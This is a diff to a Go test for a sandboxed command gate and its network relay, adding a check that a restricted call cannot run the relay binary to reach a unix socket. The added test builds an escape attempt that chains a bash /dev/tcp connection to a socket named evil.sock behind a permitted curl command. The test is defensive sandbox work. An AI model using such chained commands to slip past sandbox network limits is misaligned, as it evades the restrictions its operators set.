@@ -106,8 +106,9 @@ func TestSandboxNetworkThroughProxy(t *testing.T) {
 		}
 	}
 	// A call restricted to the programs the gate resolved (curl) goes
-	// through the relay too: the restriction allows the relay and its
-	// loader, and still refuses what the gate did not resolve.
+	// through the relay too: the relay starts the command's own first
+	// program, which restricts it; what the gate did not resolve is
+	// refused.
 	curlPath, err := exec.LookPath("curl")
 	if err == nil {
 		curlPath, err = filepath.EvalSymlinks(curlPath)
@@ -135,19 +136,50 @@ func TestSandboxNetworkThroughProxy(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(ws, "marker")); err == nil {
 		t.Error("restricted call through the proxy ran touch")
 	}
+	// The relay is the worker's own binary: a restricted command that
+	// runs it can reach any unix socket it sees (here one in the
+	// workspace) through bash's /dev/tcp. Whoever executes it, it is not
+	// the command's to run: the socket is never reached.
+	evil := filepath.Join(ws, "evil.sock")
+	el, err := net.Listen("unix", evil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer el.Close()
+	os.Chmod(evil, 0o777)
+	var reached atomic.Int64
+	go func() {
+		for {
+			c, err := el.Accept()
+			if err != nil {
+				return
+			}
+			reached.Add(1)
+			c.Close()
+		}
+	}()
+	attack := "/tmp/.toolgate-egress/relay " + relay.ForwardArg + " 127.0.0.1:7777 " + evil +
+		" -- /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/7777; echo hi >&3; sleep 1'; " + curl + "http://allowed.test:" + aPort + "/"
+	out := restricted(attack)
+	if !strings.Contains(md[string](t, out, "stderr"), "Permission denied") || md[string](t, out, "stdout") != "200" {
+		t.Errorf("a restricted call ran the relay, or not its judged curl: %s", out.Content)
+	}
+	if n := reached.Load(); n != 0 {
+		t.Errorf("a restricted call reached a unix socket through the relay it ran (%d connections)", n)
+	}
 	// Without the grant: no proxy, no network.
-	out := call("tester", curl+"http://allowed.test:"+aPort+"/")
+	out = call("tester", curl+"http://allowed.test:"+aPort+"/")
 	if got := md[string](t, out, "stdout"); got != "000" {
 		t.Errorf("without the grant: stdout %q, want 000", got)
 	}
 	if _, ok := out.Metadata["egress"]; ok {
 		t.Errorf("without the grant: egress %v", out.Metadata["egress"])
 	}
-	if n := opened.Load(); n != 9 {
-		t.Errorf("proxies opened: %d, want one per networked call (9)", n)
+	if n := opened.Load(); n != 10 {
+		t.Errorf("proxies opened: %d, want one per networked call (10)", n)
 	}
-	if a, o := allowedHits.Load(), otherHits.Load(); a != 3 || o != 0 {
-		t.Fatalf("requests received: allowed %d, other %d; want 3 and 0", a, o)
+	if a, o := allowedHits.Load(), otherHits.Load(); a != 4 || o != 0 {
+		t.Fatalf("requests received: allowed %d, other %d; want 4 and 0", a, o)
 	}
 }
 
